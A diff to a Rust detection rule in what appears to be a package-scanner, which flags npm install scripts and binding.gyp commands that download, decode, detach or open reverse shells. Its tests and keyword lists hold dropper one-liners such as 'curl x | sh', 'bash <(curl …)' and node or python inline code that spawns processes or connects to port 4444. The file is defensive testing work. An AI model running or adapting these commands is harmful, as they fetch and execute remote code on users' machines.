@@ -1,11 +1,18 @@
 //! DSCA102: an install-time script downloads, decodes, detaches or opens a shell.
 //!
 //! Commands are split the way a shell would split them (outside quotes, on `&&`, `||`,
-//! `;`, `|`, `&` and newlines), and only command words are compared, so `curly` or a
-//! `--host` flag never match. Command substitutions and `sh -c '...'` arguments are
-//! analysed as commands of their own.
+//! `;`, `|`, `&` and newlines), quotes and backslash escapes are removed from words, and
+//! only command words are compared, so `curly` or a `--host` flag never match while
+//! `c\url` does. Command and process substitutions (`$(…)`, backticks, `<(…)`, `>(…)`)
+//! and the command strings of `sh -c`, `bash -lc`, `cmd /c` are analysed as commands of
+//! their own. The inline code of `node -e` and `python -c` counts only when it does
+//! something risky (see `inline_code`). The `<!(…)` commands of binding.gyp, which
+//! node-gyp runs on install, are analysed like install scripts.
 
-use super::install_time_scripts;
+use super::{cap_evidence, install_time_scripts};
+use crate::gyp;
+use crate::inline_code::{self, Language};
+use crate::shell::{self, Separator, SubstitutionKind, Word};
 use crate::{Analysis, ScanContext};
 use dsca_model::{Category, Evidence, Finding, Location, Rule, Severity};
 
@@ -33,27 +40,86 @@ pub struct Hit {
 }
 
 pub(crate) fn check(ctx: &ScanContext, out: &mut Analysis) {
-    let Some(manifest) = ctx.manifest() else {
+    if let Some(manifest) = ctx.manifest() {
+        for (script, command) in install_time_scripts(manifest, ctx) {
+            let hits = risky_shapes(command);
+            let Some(strongest) = hits.first() else {
+                continue;
+            };
+            let mut message = format!("`{script}` {}", strongest.reason);
+            if hits.len() > 1 {
+                message.push_str(&format!(" (and {} more)", hits.len() - 1));
+            }
+            let finding = Finding::new(&RULE, message).with_severity(strongest.severity);
+            let finding = hits.iter().fold(finding, |finding, hit| {
+                finding.with_evidence(
+                    Evidence::new(format!("`{script}` {}", hit.reason))
+                        .at(Location::file("package.json"))
+                        .with_snippet(command),
+                )
+            });
+            out.findings.push(finding);
+        }
+    }
+    check_gyp_commands(ctx, out);
+}
+
+/// gyp files node-gyp loads besides binding.gyp: the `.gyp`/`.gypi` files binding.gyp
+/// names (includes, dependencies), at most this many.
+const MAX_GYP_FILES: usize = 16;
+
+/// The `<!(…)` commands of binding.gyp and the gyp files it names run whenever node-gyp
+/// builds the addon, which npm does on install (implicitly for a package with a
+/// binding.gyp and no install script).
+fn check_gyp_commands(ctx: &ScanContext, out: &mut Analysis) {
+    let Some(root) = ctx.files().iter().find(|f| f.path == "binding.gyp") else {
         return;
     };
-    for (script, command) in install_time_scripts(manifest, ctx) {
-        let hits = risky_shapes(command);
-        let Some(strongest) = hits.first() else {
+    let referenced = gyp::referenced_files(&root.data);
+    let named = ctx
+        .files()
+        .iter()
+        .filter(|f| f.path != root.path && referenced.contains(&f.path));
+    // npm runs `node-gyp rebuild` itself when the package has no install or preinstall
+    // script; otherwise its own script decides (usually node-gyp, node-gyp-build,
+    // prebuild-install with node-gyp as the fallback).
+    let implicit = ctx
+        .manifest()
+        .is_none_or(|m| m.script("install").is_none() && m.script("preinstall").is_none());
+    let when = if implicit {
+        "npm runs `node-gyp rebuild` on install, which runs it"
+    } else {
+        "node-gyp runs it whenever it builds the addon"
+    };
+    for file in std::iter::once(root).chain(named.take(MAX_GYP_FILES)) {
+        let mut hits: Vec<(Hit, gyp::GypCommand)> = Vec::new();
+        for command in gyp::commands(&file.data) {
+            for hit in risky_shapes(&command.command) {
+                hits.push((hit, command.clone()));
+            }
+        }
+        // Stable: equal severities keep the order of the file.
+        hits.sort_by_key(|(hit, _)| std::cmp::Reverse(hit.severity));
+        let Some((strongest, _)) = hits.first() else {
             continue;
         };
-        let mut message = format!("`{script}` {}", strongest.reason);
+        let what = format!("a command in `{}`", file.path);
+        let mut message = format!("{what} {}", strongest.reason);
         if hits.len() > 1 {
             message.push_str(&format!(" (and {} more)", hits.len() - 1));
         }
         let finding = Finding::new(&RULE, message).with_severity(strongest.severity);
-        let finding = hits.iter().fold(finding, |finding, hit| {
-            finding.with_evidence(
-                Evidence::new(format!("`{script}` {}", hit.reason))
-                    .at(Location::file("package.json"))
-                    .with_snippet(command),
-            )
-        });
-        out.findings.push(finding);
+        let evidence = cap_evidence(
+            hits.iter()
+                .map(|(hit, command)| {
+                    Evidence::new(format!("{what} {} ({when})", hit.reason))
+                        .at(Location::line(file.path.as_str(), command.line))
+                        .with_snippet(command.expansion.as_str())
+                })
+                .collect(),
+        );
+        out.findings
+            .push(evidence.into_iter().fold(finding, Finding::with_evidence));
     }
 }
 
@@ -98,32 +164,42 @@ const INTERPRETERS: &[&str] = &[
     "pwsh",
     "iex",
     "cmd",
+    // Shell builtins that run a file (`source /dev/stdin`, `. <(curl …)`).
+    "source",
+    ".",
 ];
 /// Words that run the command that follows them.
-const WRAPPERS: &[&str] = &["sudo", "env", "exec", "command", "time", "nice", "xargs"];
+const WRAPPERS: &[&str] = &[
+    "sudo", "doas", "env", "exec", "command", "time", "nice", "xargs", "timeout", "stdbuf",
+    "busybox",
+];
+/// Options of wrappers that take a value (`sudo -u root`, `nice -n 10`, `xargs -I {}`).
+const WRAPPER_VALUE_OPTIONS: &[&str] = &["-u", "-g", "-n", "-C", "-I", "-P", "-d", "-L", "-s"];
+/// Programs this rule judges, recognised whether written as a POSIX or a Windows path.
+const OTHER_PROGRAMS: &[&str] = &[
+    "curl", "wget", "nc", "ncat", "netcat", "socat", "certutil", "base64", "eval", "nslookup",
+    "dig", "host", "start", "nohup", "setsid",
+];
 
 fn scan(command: &str, depth: usize, hits: &mut Vec<Hit>) {
     if depth > MAX_DEPTH {
         return;
     }
-    for inner in substitutions(command) {
-        scan(inner, depth + 1, hits);
+    let parsed = shell::parse(command);
+    for substitution in &parsed.substitutions {
+        scan(substitution.body, depth + 1, hits);
     }
-    let segments = split_segments(command);
+    let segments = &parsed.segments;
     for (index, segment) in segments.iter().enumerate() {
-        let words = split_words(segment.text);
-        let Some((program, args)) = command_word(&words) else {
+        let Some((program, args)) = command_word(&segment.words) else {
             continue;
         };
         examine(&program, args, segment.text, depth, hits);
-        if words
-            .first()
-            .is_some_and(|w| matches!(normalise(w).as_str(), "nohup" | "setsid"))
+        process_substitutions(&program, args, hits);
+        if let Some(first) = segment.words.first().map(program_name)
+            && matches!(first.as_str(), "nohup" | "setsid")
         {
-            hits.push(high(format!(
-                "starts a detached process with `{}`",
-                normalise(&words[0])
-            )));
+            hits.push(high(format!("starts a detached process with `{first}`")));
         }
         match segment.then {
             Separator::Background => hits.push(high(format!(
@@ -132,8 +208,7 @@ fn scan(command: &str, depth: usize, hits: &mut Vec<Hit>) {
             Separator::Pipe => {
                 let next = segments
                     .get(index + 1)
-                    .map(|s| split_words(s.text))
-                    .and_then(|w| command_word(&w).map(|(p, _)| p));
+                    .and_then(|s| command_word(&s.words).map(|(p, _)| p));
                 if let Some(next) = next.filter(|n| INTERPRETERS.contains(&n.as_str())) {
                     hits.push(high(format!(
                         "pipes the output of `{program}` into `{next}`"
@@ -160,13 +235,22 @@ fn critical(reason: String) -> Hit {
 }
 
 /// Judge one simple command: its program and arguments (`raw` is the segment's text).
-fn examine(program: &str, args: &[String], raw: &str, depth: usize, hits: &mut Vec<Hit>) {
-    let has = |flags: &[&str]| args.iter().any(|a| flags.contains(&a.as_str()));
-    let joined_lower = args.join(" ").to_ascii_lowercase();
+fn examine(program: &str, args: &[Word], raw: &str, depth: usize, hits: &mut Vec<Hit>) {
+    let has = |flags: &[&str]| args.iter().any(|a| flags.contains(&a.text.as_str()));
+    let joined_lower = args
+        .iter()
+        .map(|a| a.text.as_str())
+        .collect::<Vec<_>>()
+        .join(" ")
+        .to_ascii_lowercase();
     match program {
         "curl" | "wget" => hits.push(high(format!("downloads from the network with `{program}`"))),
         "nc" | "ncat" | "netcat" => {
-            if has(&["-e", "-c", "--exec", "--sh-exec"]) {
+            let executes = args.iter().any(|a| {
+                matches!(a.text.as_str(), "--exec" | "--sh-exec")
+                    || short_options(&a.text).is_some_and(|o| o.contains(['e', 'c']))
+            });
+            if executes {
                 hits.push(critical(format!(
                     "hands a shell to a network connection with `{program} -e` (reverse shell)"
                 )));
@@ -188,12 +272,8 @@ fn examine(program: &str, args: &[String], raw: &str, depth: usize, hits: &mut V
         "base64" if has(&["-d", "-D", "--decode"]) => {
             hits.push(high("decodes hidden data with `base64 -d`".into()))
         }
-        "node" | "nodejs" if args.iter().any(|a| is_node_eval_flag(a)) => hits.push(high(
-            "runs inline JavaScript given on the command line (`node -e`)".into(),
-        )),
-        "python" | "python2" | "python3" if has(&["-c"]) => {
-            hits.push(high(format!("runs inline code given on the command line (`{program} -c`)")))
-        }
+        "node" | "nodejs" => node(program, args, hits),
+        "python" | "python2" | "python3" => python(program, args, hits),
         "perl" | "ruby" if has(&["-e"]) => {
             hits.push(high(format!("runs inline code given on the command line (`{program} -e`)")))
         }
@@ -204,33 +284,225 @@ fn examine(program: &str, args: &[String], raw: &str, depth: usize, hits: &mut V
         "start" if has(&["/b", "/B", "/min", "/MIN"]) => hits.push(high(
             "starts a detached process with `start /B`".into(),
         )),
-        shell if SHELLS.contains(&shell) => {
-            let interactive = has(&["-i"]);
-            let redirected = raw.contains(">&") || raw.contains("<&") || raw.contains("0>");
-            if interactive && redirected {
-                hits.push(critical(format!(
-                    "redirects an interactive shell (`{shell} -i`) to a network stream (reverse shell)"
-                )));
-            }
-            if let Some(position) = args.iter().position(|a| a == "-c")
-                && let Some(inner) = args.get(position + 1)
-            {
-                scan(inner, depth + 1, hits);
-            }
-        }
+        shell if SHELLS.contains(&shell) => examine_shell(shell, args, raw, depth, hits),
         "cmd" => {
-            if let Some(position) = args.iter().position(|a| a.eq_ignore_ascii_case("/c")) {
-                scan(&args[position + 1..].join(" "), depth + 1, hits);
+            if let Some(position) = args.iter().position(|a| a.text.eq_ignore_ascii_case("/c")) {
+                let rest: Vec<&str> = args[position + 1..].iter().map(|a| a.raw.as_str()).collect();
+                scan(&rest.join(" "), depth + 1, hits);
             }
         }
         _ => {}
     }
 }
 
-fn is_node_eval_flag(arg: &str) -> bool {
-    matches!(arg, "-e" | "--eval" | "-p" | "--print" | "-pe" | "-ep")
-        || arg.starts_with("--eval=")
-        || arg.starts_with("--print=")
+/// The letters of a single-dash option group (`-lc` -> `lc`), `None` for anything else.
+fn short_options(arg: &str) -> Option<&str> {
+    let letters = arg.strip_prefix('-')?;
+    (!letters.is_empty() && letters.bytes().all(|b| b.is_ascii_alphabetic())).then_some(letters)
+}
+
+/// `sh -c`, `bash -lc`, `sh -ec`: analyse the command string; `bash -i` redirected to a
+/// stream is a reverse shell.
+fn examine_shell(shell: &str, args: &[Word], raw: &str, depth: usize, hits: &mut Vec<Hit>) {
+    let mut command_string = false;
+    let mut interactive = false;
+    let mut index = 0;
+    while let Some(arg) = args.get(index) {
+        let text = arg.text.as_str();
+        if text == "--" {
+            index += 1;
+            break;
+        }
+        if matches!(text, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
+            index += 2;
+            continue;
+        }
+        if text.starts_with("--") {
+            index += 1;
+            continue;
+        }
+        if let Some(letters) = short_options(text) {
+            command_string |= letters.contains('c');
+            interactive |= letters.contains('i');
+            index += 1;
+            continue;
+        }
+        if text
+            .strip_prefix('+')
+            .is_some_and(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphabetic()))
+        {
+            index += 1;
+            continue;
+        }
+        break;
+    }
+    let redirected = raw.contains(">&") || raw.contains("<&") || raw.contains("0>");
+    if interactive && redirected {
+        hits.push(critical(format!(
+            "redirects an interactive shell (`{shell} -i`) to a network stream (reverse shell)"
+        )));
+    }
+    let Some(inner) = args.get(index).filter(|_| command_string) else {
+        return;
+    };
+    scan(&inner.text, depth + 1, hits);
+    // `sh -c "$(curl …)"`: the downloaded text is the command.
+    let trimmed = inner.text.trim();
+    if trimmed.starts_with("$(") || trimmed.starts_with('`') {
+        let source = shell::parse(trimmed)
+            .substitutions
+            .first()
+            .and_then(|s| first_program(s.body));
+        if let Some(source) = source {
+            hits.push(high(format!(
+                "runs the output of `{source}` as a `{shell}` command"
+            )));
+        }
+    }
+}
+
+/// `bash <(curl …)`, `source <(wget -qO- …)`, `curl … > >(sh)`: process substitution
+/// used as a pipe into an interpreter.
+fn process_substitutions(program: &str, args: &[Word], hits: &mut Vec<Hit>) {
+    for arg in args {
+        match &arg.process {
+            Some((SubstitutionKind::ProcessInput, body)) if INTERPRETERS.contains(&program) => {
+                if let Some(source) = first_program(body) {
+                    hits.push(high(format!(
+                        "feeds the output of `{source}` into `{program}` through process substitution (`<(…)`)"
+                    )));
+                }
+            }
+            Some((SubstitutionKind::ProcessOutput, body)) => {
+                if let Some(sink) =
+                    first_program(body).filter(|p| INTERPRETERS.contains(&p.as_str()))
+                {
+                    hits.push(high(format!(
+                        "pipes the output of `{program}` into `{sink}` through process substitution (`>(…)`)"
+                    )));
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+/// The program the first simple command of `command` runs.
+fn first_program(command: &str) -> Option<String> {
+    let parsed = shell::parse(command);
+    let segment = parsed.segments.first()?;
+    command_word(&segment.words).map(|(program, _)| program)
+}
+
+/// `node -e CODE`, `node -p CODE`, `node --eval=CODE`: flag the inline code only when
+/// it does something risky; `node --import data:…` runs code written on the line. Every
+/// argument is looked at: which words are option values and which one is the script is
+/// not worth guessing (`node --title x -e …`), and a script's own `-e` argument still
+/// has to look risky to count.
+fn node(program: &str, args: &[Word], hits: &mut Vec<Hit>) {
+    for (index, arg) in args.iter().enumerate() {
+        let text = arg.text.as_str();
+        let next = args.get(index + 1).map(|w| w.text.as_str());
+        let (flag, value) = match text.split_once('=') {
+            Some((flag, value)) if flag.starts_with("--") => (flag, Some(value)),
+            _ => (text, next),
+        };
+        match flag {
+            "-e" | "--eval" | "-p" | "--print" | "-pe" | "-ep" => {
+                if let Some(code) = value {
+                    judge_inline_code(
+                        program,
+                        flag,
+                        code,
+                        Language::JavaScript,
+                        "JavaScript",
+                        hits,
+                    );
+                }
+            }
+            "--import" | "--loader" | "--experimental-loader"
+                if value.is_some_and(|v| v.starts_with("data:")) =>
+            {
+                hits.push(data_url(program, flag));
+            }
+            _ => {}
+        }
+    }
+}
+
+fn data_url(program: &str, flag: &str) -> Hit {
+    high(format!(
+        "runs JavaScript written into a `data:` URL (`{program} {flag} data:…`)"
+    ))
+}
+
+/// `python -c CODE` (also `-Bc CODE`, `-cCODE`).
+fn python(program: &str, args: &[Word], hits: &mut Vec<Hit>) {
+    let mut index = 0;
+    while let Some(arg) = args.get(index) {
+        let text = arg.text.as_str();
+        if let Some(attached) = text.strip_prefix("-c").filter(|rest| !rest.is_empty()) {
+            judge_inline_code(program, "-c", attached, Language::Python, "code", hits);
+            return;
+        }
+        match short_options(text) {
+            Some(letters) if letters.ends_with('c') => {
+                if let Some(code) = args.get(index + 1) {
+                    judge_inline_code(program, "-c", &code.text, Language::Python, "code", hits);
+                }
+                return;
+            }
+            // `-m module`: what follows are the module's arguments.
+            Some(letters) if letters.ends_with('m') => return,
+            Some("W" | "X" | "Q") => index += 2,
+            Some(_) => index += 1,
+            None if text.starts_with('-') => index += 1,
+            None => return,
+        }
+    }
+}
+
+fn judge_inline_code(
+    program: &str,
+    flag: &str,
+    code: &str,
+    language: Language,
+    what: &str,
+    hits: &mut Vec<Hit>,
+) {
+    let shown = format!("`{program} {flag}`");
+    if code.trim_start().starts_with('$') {
+        hits.push(high(format!(
+            "runs inline {what} taken from a shell expansion ({shown})"
+        )));
+        return;
+    }
+    let capabilities = inline_code::risky_capabilities(code, language);
+    if capabilities.is_empty() {
+        return;
+    }
+    hits.push(high(format!(
+        "runs inline {what} given on the command line ({shown}) that {}",
+        join_phrases(&capabilities)
+    )));
+}
+
+/// "a", "a and b", "a, b and c", "a, b, c and 2 more".
+fn join_phrases(phrases: &[String]) -> String {
+    const SHOWN: usize = 3;
+    let shown = &phrases[..phrases.len().min(SHOWN)];
+    let mut text = String::new();
+    for (index, phrase) in shown.iter().enumerate() {
+        if index > 0 {
+            let last = index + 1 == shown.len() && phrases.len() <= SHOWN;
+            text.push_str(if last { " and " } else { ", " });
+        }
+        text.push_str(phrase);
+    }
+    if phrases.len() > SHOWN {
+        text.push_str(&format!(" and {} more", phrases.len() - SHOWN));
+    }
+    text
 }
 
 fn powershell_reason(program: &str, args: &str) -> String {
@@ -260,153 +532,91 @@ fn powershell_reason(program: &str, args: &str) -> String {
     format!("runs {what} with `{program}`")
 }
 
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum Separator {
-    /// `;`, `&&`, `||`, newline.
-    Sequence,
-    /// `|`: the next segment reads this one's output.
-    Pipe,
-    /// A lone `&`: this segment runs in the background.
-    Background,
-    End,
-}
-
-#[derive(Debug)]
-struct Segment<'a> {
-    text: &'a str,
-    then: Separator,
-}
-
-/// Split a command line into simple commands, outside of quotes.
-fn split_segments(command: &str) -> Vec<Segment<'_>> {
-    let bytes = command.as_bytes();
-    let mut segments = Vec::new();
-    let mut start = 0;
-    let mut quote: Option<u8> = None;
-    let mut i = 0;
-    while i < bytes.len() {
-        let byte = bytes[i];
-        if let Some(q) = quote {
-            if byte == q {
-                quote = None;
-            } else if byte == b'\\' && q == b'"' {
-                i += 1;
-            }
-            i += 1;
+/// The program a simple command runs and its arguments, skipping `VAR=value`
+/// assignments, redirections, wrappers such as `sudo` (and their options), and
+/// detaching prefixes such as `nohup`.
+fn command_word(words: &[Word]) -> Option<(String, &[Word])> {
+    let mut index = 0;
+    let mut after_wrapper = false;
+    while let Some(word) = words.get(index) {
+        let text = word.text.as_str();
+        if is_redirect_operator(text) {
+            index += 2;
             continue;
         }
-        let next = bytes.get(i + 1).copied();
-        let (separator, width) = match byte {
-            b'\'' | b'"' => {
-                quote = Some(byte);
-                i += 1;
-                continue;
-            }
-            b'\\' => {
-                i += 2;
-                continue;
-            }
-            b'&' if next == Some(b'&') => (Separator::Sequence, 2),
-            b'|' if next == Some(b'|') => (Separator::Sequence, 2),
-            b'|' => (Separator::Pipe, 1),
-            b';' | b'\n' => (Separator::Sequence, 1),
-            // `>&`, `<&`, `&>` are redirections, not separators.
-            b'&' if i > 0 && matches!(bytes[i - 1], b'>' | b'<') => {
-                i += 1;
-                continue;
-            }
-            b'&' if next == Some(b'>') => {
-                i += 1;
-                continue;
-            }
-            b'&' => (Separator::Background, 1),
-            _ => {
-                i += 1;
-                continue;
-            }
-        };
-        push_segment(&mut segments, &command[start..i], separator);
-        i += width;
-        start = i;
-    }
-    push_segment(
-        &mut segments,
-        command.get(start..).unwrap_or(""),
-        Separator::End,
-    );
-    segments
-}
-
-fn push_segment<'a>(segments: &mut Vec<Segment<'a>>, text: &'a str, then: Separator) {
-    let text = text.trim();
-    if !text.is_empty() {
-        segments.push(Segment { text, then });
-    } else if let Some(last) = segments.last_mut()
-        && then == Separator::Background
-    {
-        // `a & ;` or a stray `&` after an empty segment: background the previous one.
-        last.then = then;
-    }
-}
-
-/// Split a simple command into words, removing quotes.
-fn split_words(text: &str) -> Vec<String> {
-    let mut words = Vec::new();
-    let mut word = String::new();
-    let mut in_word = false;
-    let mut quote: Option<char> = None;
-    for c in text.chars() {
-        match quote {
-            Some(q) if c == q => quote = None,
-            Some(_) => word.push(c),
-            None if c == '\'' || c == '"' => {
-                quote = Some(c);
-                in_word = true;
-            }
-            None if c.is_whitespace() => {
-                if in_word {
-                    words.push(std::mem::take(&mut word));
-                    in_word = false;
-                }
-            }
-            None => {
-                word.push(c);
-                in_word = true;
-            }
-        }
-    }
-    if in_word {
-        words.push(word);
-    }
-    words
-}
-
-/// The program a simple command runs and its arguments, skipping `VAR=value`
-/// assignments, wrappers such as `sudo`, and detaching prefixes such as `nohup`.
-fn command_word(words: &[String]) -> Option<(String, &[String])> {
-    let mut index = 0;
-    while let Some(word) = words.get(index) {
-        let name = normalise(word);
-        let is_assignment = word.contains('=') && !word.starts_with('=') && !word.starts_with('-');
-        let is_redirect = word.starts_with('>') || word.starts_with('<') || word.starts_with("2>");
-        if is_assignment
-            || is_redirect
-            || WRAPPERS.contains(&name.as_str())
-            || matches!(name.as_str(), "nohup" | "setsid" | "(" | "{")
-        {
+        if is_redirect(text) || is_assignment(text) || matches!(text, "{" | "}" | "!") {
             index += 1;
             continue;
+        }
+        let name = program_name(word);
+        if WRAPPERS.contains(&name.as_str()) || matches!(name.as_str(), "nohup" | "setsid") {
+            after_wrapper = true;
+            index += 1;
+            continue;
+        }
+        if after_wrapper {
+            if WRAPPER_VALUE_OPTIONS.contains(&text) {
+                index += 2;
+                continue;
+            }
+            let duration = !text.is_empty()
+                && text
+                    .trim_end_matches(['s', 'm', 'h', 'd'])
+                    .bytes()
+                    .all(|b| b.is_ascii_digit() || b == b'.');
+            if text.starts_with('-') || duration {
+                index += 1;
+                continue;
+            }
         }
         return Some((name, &words[index + 1..]));
     }
     None
 }
 
-/// Lowercase basename without a Windows executable extension: `/usr/bin/curl` -> `curl`.
-fn normalise(word: &str) -> String {
+/// `NAME=value` before a command.
+fn is_assignment(text: &str) -> bool {
+    let Some((name, _)) = text.split_once('=') else {
+        return false;
+    };
+    let mut bytes = name.bytes();
+    bytes
+        .next()
+        .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
+        && bytes.all(|b| b.is_ascii_alphanumeric() || b == b'_')
+}
+
+/// A redirection operator written as its own word (`>`, `2>>`, `&>`, `<`): its target
+/// is the next word.
+fn is_redirect_operator(text: &str) -> bool {
+    let operator = text.trim_start_matches(|c: char| c.is_ascii_digit());
+    matches!(
+        operator,
+        ">" | ">>" | "<" | "<<" | "<<<" | ">&" | "<&" | "&>" | "&>>" | ">|" | "<>"
+    )
+}
+
+/// A redirection with its target in the same word (`2>&1`, `>/dev/null`, `<in`).
+fn is_redirect(text: &str) -> bool {
+    let operator = text.trim_start_matches(|c: char| c.is_ascii_digit());
+    operator.starts_with(['>', '<']) || operator.starts_with("&>")
+}
+
+/// The program a word names: a lowercase basename without a Windows executable
+/// extension (`/usr/bin/curl` -> `curl`, `C:\tools\curl.exe` -> `curl`). Backslashes are
+/// path separators when that gives a program this rule knows, and shell escapes
+/// otherwise (`c\url` -> `curl`).
+fn program_name(word: &Word) -> String {
+    let windows = basename(&word.raw, &['/', '\\']);
+    if is_known_program(&windows) {
+        return windows;
+    }
+    basename(&word.text, &['/'])
+}
+
+fn basename(word: &str, separators: &[char]) -> String {
     let base = word
-        .trim_start_matches(['(', '{'])
-        .rsplit(['/', '\\'])
+        .rsplit(separators)
         .next()
         .unwrap_or(word)
         .to_ascii_lowercase();
@@ -418,41 +628,10 @@ fn normalise(word: &str) -> String {
     base
 }
 
-/// The bodies of `$(...)` and backtick command substitutions.
-fn substitutions(command: &str) -> Vec<&str> {
-    let mut found = Vec::new();
-    let bytes = command.as_bytes();
-    let mut i = 0;
-    while i < bytes.len() {
-        if bytes[i] == b'$' && bytes.get(i + 1) == Some(&b'(') {
-            let body_start = i + 2;
-            let mut depth = 1;
-            let mut j = body_start;
-            while j < bytes.len() && depth > 0 {
-                match bytes[j] {
-                    b'(' => depth += 1,
-                    b')' => depth -= 1,
-                    _ => {}
-                }
-                j += 1;
-            }
-            let body_end = if depth == 0 { j - 1 } else { j };
-            if let Some(body) = command.get(body_start..body_end) {
-                found.push(body);
-            }
-            i = j;
-        } else if bytes[i] == b'`' {
-            let body_start = i + 1;
-            let end = command[body_start..]
-                .find('`')
-                .map_or(command.len(), |offset| body_start + offset);
-            found.push(&command[body_start..end]);
-            i = end + 1;
-        } else {
-            i += 1;
-        }
-    }
-    found
+fn is_known_program(name: &str) -> bool {
+    [SHELLS, INTERPRETERS, WRAPPERS, OTHER_PROGRAMS]
+        .iter()
+        .any(|list| list.contains(&name))
 }
 
 #[cfg(test)]
@@ -474,9 +653,66 @@ mod tests {
             "node scripts/postinstall.js --host example.com",
             "echo done > /dev/null 2>&1",
             "opencollective-postinstall || true",
+            // core-js, core-js-pure, nx; es5-ext.
+            "node -e \"try{require('./postinstall')}catch(e){}\"",
+            "node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",
+            "node -p \"require('node-addon-api').include\"",
+            "node -e \"require('nan')\"",
+            "node --no-warnings -e \"console.log('Thanks for installing! Run x to spawn it.')\"",
+            "node -e \"process.env.CI || require('./scripts/setup')\"",
+            "python3 -c \"import sys; print(sys.platform)\"",
+            "bash -lc 'node-gyp rebuild'",
+            "sh -ec 'echo ok' && diff <(cat a) <(cat b)",
+            "sudo -u root node install.js",
         ] {
             assert_eq!(risky_shapes(command), vec![], "{command}");
         }
+    }
+
+    #[test]
+    fn shell_tricks_do_not_hide_droppers() {
+        for command in [
+            "bash -lc 'curl x | sh'",
+            "sh -ec \"wget -qO- http://x/a | sh\"",
+            "bash -c -- 'curl x'",
+            "bash <(curl -s https://x.example/a.sh)",
+            "source <(wget -qO- https://x.example/a.sh)",
+            ". <(curl -s x)",
+            "curl -s x > >(sh)",
+            "sh -c \"$(curl -fsSL https://x.example/a.sh)\"",
+            "c\\url -s x -o /tmp/a",
+            "c\"u\"rl -s x",
+            "'wget' x",
+            "C:\\Windows\\System32\\curl.exe -o a.exe http://x",
+            "(curl x | sh)",
+            "sudo -u root curl x",
+            "timeout 10 wget x",
+            "node -e \"require('https').get('https://x', r => r.pipe(process.stdout))\"",
+            "node -e \"eval(Buffer.from(process.argv[1], 'base64').toString())\" aWQ=",
+            "node --eval=\"require('child_process').execSync('id')\"",
+            "node -e \"$PAYLOAD\"",
+            "node --title x -e \"require('net').connect(4444, 'x')\"",
+            "node --import 'data:text/javascript,console.log(1)'",
+            "python -c \"import os;os.system('id')\"",
+            "python3 -Bc 'import urllib.request'",
+        ] {
+            assert_eq!(strongest(command), Some(Severity::High), "{command}");
+        }
+    }
+
+    #[test]
+    fn process_substitution_into_a_shell_names_both_sides() {
+        let reasons: Vec<String> = risky_shapes("bash <(curl -s x)")
+            .into_iter()
+            .map(|hit| hit.reason)
+            .collect();
+        assert_eq!(
+            reasons,
+            [
+                "downloads from the network with `curl`",
+                "feeds the output of `curl` into `bash` through process substitution (`<(…)`)",
+            ]
+        );
     }
 
     #[test]
@@ -526,6 +762,13 @@ mod tests {
             "|",
             "&&&|||;;",
             "é&ü|",
+            "bash -c",
+            "node -e",
+            "python -c",
+            "bash <(",
+            "x > >(",
+            "sudo",
+            "node --import",
         ] {
             let _ = risky_shapes(command);
         }
